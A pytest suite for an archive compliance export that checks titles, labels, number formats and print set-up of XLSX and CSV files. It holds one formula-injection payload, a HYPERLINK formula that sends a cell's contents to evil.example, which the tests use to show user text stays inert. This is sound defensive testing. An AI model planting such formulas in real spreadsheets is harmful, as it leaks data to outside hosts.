"""The compliance list as XLSX a bureau chief can print: title, labels, number formats, filter, print set-up."""

import csv
import io
from datetime import date

import pytest
from fastapi.testclient import TestClient
from lantai_client import Lantai
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import Engine

from app.models import Archive
from tests.factories import store
from tests.scenario import PLAN, YEAR, scenario_database

URL = "/api/v1/compliance"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


pytestmark = pytest.mark.built_by.with_args(scenario_database)  # every test reads the scenario (tests/scenario.py)


def workbook(client: TestClient, lang: str = "zh", **params: object) -> Workbook:
    response = client.get(
        URL, params={"plan": PLAN, "year": YEAR, "format": "xlsx", **params}, headers={"Accept-Language": lang}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.content))


def table(sheet: Worksheet) -> tuple[tuple, list[tuple], tuple]:
    """(labels row, data rows, totals row): one header row, row 4, under the title; the totals last."""
    rows = list(sheet.iter_rows(values_only=True))
    return rows[3], rows[4:-1], rows[-1]


class TestSummarySheet:
    def test_title_names_the_plan_year_scope_and_date(self, client: TestClient) -> None:
        sheet = workbook(client, parent_code="HN-CS").worksheets[0]
        assert sheet["A1"].value == f"十四五：截至{YEAR}年数字化目标完成情况"
        assert sheet["A2"].value == f"范围：长沙市档案馆 · 制表日期：{date.today().isoformat()}"
        under = workbook(client, under="HN-CS").worksheets[0]
        assert under["A2"].value == sheet["A2"].value
        english = workbook(client, lang="en").worksheets[0]
        assert english["A1"].value == f"十四五: digitization targets as of {YEAR}"
        assert "every archive in the plan" in english["A2"].value

    def test_status_level_and_rule_in_chinese_words(self, client: TestClient) -> None:
        labels, rows, total = table(workbook(client).worksheets[0])
        assert labels[:4] == ("档案馆代码", "档案馆名称", "级别", "状态")
        statuses = {row[0]: (row[2], row[3]) for row in rows}
        assert statuses == {
            "HN-CS": ("地市级", "已达标"),
            "HN-CS-LY": ("县级", "存在风险"),
            "HN-ZZ": ("地市级", "进度滞后"),
            "HN-ZZ-YX": ("县级", "未报送"),
        }
        assert {row[4] for row in rows} == {"达到数字化率"} and {row[7] for row in rows} == {"%"}
        assert "municipal" not in str(rows) and "reach_rate" not in str(rows) and "off_track" not in str(rows)
        assert (total[0], total[1]) == ("合计", "4 个档案馆") and "进度滞后 1" in total[3]

    def test_figures_are_numbers_with_number_formats(self, client: TestClient) -> None:
        sheet = workbook(client).worksheets[0]
        row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == "HN-ZZ")
        assert (row[5].value, row[6].value) == (31.0, 80)
        assert (row[5].number_format, row[6].number_format, row[10].number_format) == ('0.0"%"', '0.0"%"', "#,##0")

    def test_filter_frozen_header_and_print_set_up(self, client: TestClient) -> None:
        for sheet in workbook(client).worksheets:
            assert sheet.auto_filter.ref.startswith("A4:")
            assert sheet.freeze_panes == "C5"
            assert sheet.print_title_rows == "$4:$4"
            assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")  # A4
            assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
            assert sheet.sheet_properties.pageSetUpPr.fitToPage is True

    def test_needs_read_as_the_sentence_beside_them(self, client: TestClient) -> None:
        labels, rows, _ = table(workbook(client).worksheets[0])
        at = {label: index for index, label in enumerate(labels)}
        assert any(row[at["每年需完成（卷/件/页）"]] for row in rows)
        for row in rows:
            need = row[at["每年需完成（卷/件/页）"]]
            if need is not None:
                assert f"约每年{need:,}" in row[at["原因"]]

    def test_filters_and_reasons_in_chinese(self, client: TestClient) -> None:
        _, rows, _ = table(workbook(client, parent_code="HN-CS").worksheets[0])
        assert [row[0] for row in rows] == ["HN-CS-LY"]
        assert "数字化率" in rows[0][11]

    def test_the_client_fetches_it(self, client: TestClient, admin_token: str) -> None:
        content = Lantai(str(client.base_url), admin_token, http=client).download_compliance(
            PLAN, YEAR, format="xlsx", level="county"
        )
        _, rows, _ = table(load_workbook(io.BytesIO(content)).worksheets[0])
        assert [row[0] for row in rows] == ["HN-CS-LY", "HN-ZZ-YX"]


class TestRulesSheet:
    def test_headers_in_the_requested_language_and_no_row_of_keys(self, client: TestClient) -> None:
        book = workbook(client)
        labels, rows, total = table(book.worksheets[1])
        text = client.get(URL, params={"plan": PLAN, "year": YEAR, "format": "csv"}).content.decode("utf-8-sig")
        keys = next(csv.reader(io.StringIO(text)))
        for sheet in book.worksheets:
            assert not set(keys) & {cell for row in sheet.iter_rows(values_only=True) for cell in row}
        assert labels[:3] == ("档案馆代码", "档案馆名称", "级别") and total[0] == "合计"
        assert book.worksheets[1]["A1"].value == f"十四五：截至{YEAR}年数字化目标完成情况"
        english, _, _ = table(workbook(client, lang="en").worksheets[1])
        assert english[:3] == ("Archive code", "Archive", "Level")

    def test_booleans_and_labels_as_words(self, client: TestClient) -> None:
        labels, rows, _ = table(workbook(client).worksheets[1])
        at = {label: index for index, label in enumerate(labels)}
        assert {row[at["数据已审核"]] for row in rows} <= {"是", "否", None}
        assert "否" in {row[at["数据已审核"]] for row in rows}
        assert "false" not in str(rows) and "true" not in str(rows)
        assert {row[at["级别"]] for row in rows} == {"县级", "地市级"}


class TestUserTextIsText:
    def test_a_name_that_looks_like_a_formula_is_a_string_cell_in_both_sheets(self, client: TestClient) -> None:
        body = {"code": "EVIL", "name": EVIL, "level": "county", "kind": "comprehensive", "parent_code": "HN-CS"}
        assert client.post("/api/v1/archives", json=body).status_code == 201
        book = workbook(client)
        for sheet in book.worksheets:
            cells = [row[1] for row in sheet.iter_rows(min_row=5) if row[0].value == "EVIL"]
            assert cells and all((cell.data_type, cell.value) == ("s", EVIL) for cell in cells)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row)

    def test_the_csv_escapes_it_and_numbers_stay_numbers(self, client: TestClient) -> None:
        body = {"code": "EVIL", "name": EVIL, "level": "county", "kind": "comprehensive", "parent_code": "HN-CS"}
        client.post("/api/v1/archives", json=body)
        response = client.get(URL, params={"plan": PLAN, "year": YEAR, "format": "csv"})
        assert response.headers["content-disposition"] == f'attachment; filename="compliance-{PLAN}.csv"'
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert [row[1] for row in rows if row[0] == "EVIL"][0] == "'" + EVIL
        city = next(row for row in rows if row[0] == "HN-ZZ")
        assert city[rows[0].index("rate_pct")] == "31.0"

    def test_control_characters_in_a_name_do_not_break_the_workbook(self, client: TestClient, engine: Engine) -> None:
        # The API now refuses control characters in names; rows stored before that may still hold them.
        store(engine, Archive(code="ODD", name="怪\x17名", level="county", kind="comprehensive", parent_code="HN-CS"))
        _, rows, _ = table(workbook(client).worksheets[0])
        assert ("ODD", "怪名") in [row[:2] for row in rows]
        template = client.get("/api/v1/imports/reports/template.xlsx")
        assert template.status_code == 200


class TestPrintedReadably:
    def test_names_are_never_cut(self, client: TestClient, engine: Engine) -> None:
        long_name = "湖南省长沙市长沙县城市建设档案与综合档案联合管理中心档案馆"
        store(engine, Archive(code="LONG", name=long_name, level="county", kind="comprehensive", parent_code="HN-CS"))
        sheet = workbook(client).worksheets[0]
        row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == "LONG")
        width = sheet.column_dimensions["B"].width
        assert width >= 2 * len(long_name) or row[1].alignment.wrap_text

    def test_the_rules_sheet_prints_only_columns_with_figures(self, client: TestClient) -> None:
        labels, _, _ = table(workbook(client).worksheets[1])
        assert "状态说明" not in labels and "目标编号" not in labels  # repeats and codes stay in the CSV
        assert "增长比较年" in labels and "距目标差额" in labels
